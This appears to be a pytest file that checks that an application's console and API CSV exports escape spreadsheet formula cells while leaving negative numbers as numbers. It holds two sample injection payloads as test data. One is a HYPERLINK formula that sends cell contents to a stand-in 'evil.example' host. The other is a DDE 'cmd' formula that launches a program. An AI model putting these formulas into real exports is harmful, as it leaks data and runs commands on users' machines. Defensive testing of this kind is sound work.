"""CSV downloads never carry a live spreadsheet formula: cells starting with =, +, -, @, tab or CR get a
leading ', except plain negative numbers (a clawback, a negative ROI), which stay numbers."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from modelshop.channels import channels
from modelshop.channels.csvsafe import cell
from modelshop.db import get_database
from tests.support import ADMIN_KEY, AUTH, period
from tests.web.helpers import login, make_world

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"invoice")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cells_that_a_spreadsheet_would_run_become_text():
    for raw in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "-2e3", "- 5", EVIL):
        assert cell(raw) == "'" + raw, raw
    for raw in ("-12.50", "-3", "12.50", "0", "Acme", "", "a=b", "café"):
        assert cell(raw) == raw, raw
    assert cell(-5) == -5 and cell(None) is None


def test_the_console_and_api_csv_downloads_are_neutralised(app, shop_settings):
    # a customer chooses its own name, and it lands in its partner's payout statement
    world = make_world(shop_settings, mine_customer=CALC)
    db = get_database(shop_settings)
    ch = channels.create_channel(db, EVIL, "campaign", code="evil", actor="test")
    channels.set_cost(db, ch["code"], period(0), "100", actor="test")  # no revenue: ROI -1.00, a real number
    payout_id = world["payouts"][world["mine"]["id"]]
    with TestClient(app) as client:
        login(client, ADMIN_KEY)
        report = rows(client.get("/console/channels/report.csv").text)
        header, evil = report[0], next(r for r in report if r[0] == "evil")
        assert evil[header.index("name")] == "'" + EVIL and evil[header.index("roi")] == "-1.00"
        api = rows(client.get("/admin/channels/report", params={"format": "csv"}, headers=AUTH).text)
        assert next(r for r in api if r[0] == "evil")[header.index("name")] == "'" + EVIL
        for url in (f"/console/payouts/{payout_id}.csv", f"/admin/payouts/{payout_id}.csv"):
            statement = rows(client.get(url, headers=AUTH).text)
            assert [r[2] for r in statement[1:-1]] == ["'" + CALC], url
    partner = TestClient(app)
    with partner:
        login(partner, world["key"])
        assert rows(partner.get(f"/console/payouts/{payout_id}.csv").text)[1][2] == "'" + CALC
